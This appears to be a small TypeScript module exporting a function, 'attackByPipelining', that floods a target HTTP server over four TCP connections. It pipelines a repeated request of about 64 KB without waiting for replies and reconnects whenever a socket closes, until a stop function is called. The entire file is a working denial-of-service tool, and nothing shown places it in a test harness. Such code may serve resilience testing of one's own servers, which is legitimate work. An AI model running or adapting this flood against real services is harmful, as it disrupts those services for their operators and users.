import { connect, type Socket } from 'node:net'

const connectionsAtOnce = 4

/** Writes a request again and again on four connections, without waiting for answers, until the returned function is called. */
export const attackByPipelining = (origin: string, request: string): (() => void) => {
  const { hostname, port } = new URL(origin)
  const bytes = Buffer.from(request.repeat(Math.ceil(65_536 / request.length)))
  const sockets = new Set<Socket>()
  let isOver = false
  const open = (): void => {
    if (isOver) return
    const socket = connect(Number(port), hostname)
    sockets.add(socket)
    const write = (): void => {
      while (!socket.destroyed && socket.write(bytes));
    }
    socket
      .on('connect', write)
      .on('drain', write)
      .on('error', () => undefined)
    socket.resume().on('close', () => {
      sockets.delete(socket)
      setImmediate(open)
    })
  }
  for (let index = 0; index < connectionsAtOnce; index++) open()
  return () => {
    isOver = true
    for (const socket of sockets) socket.destroy()
  }
}
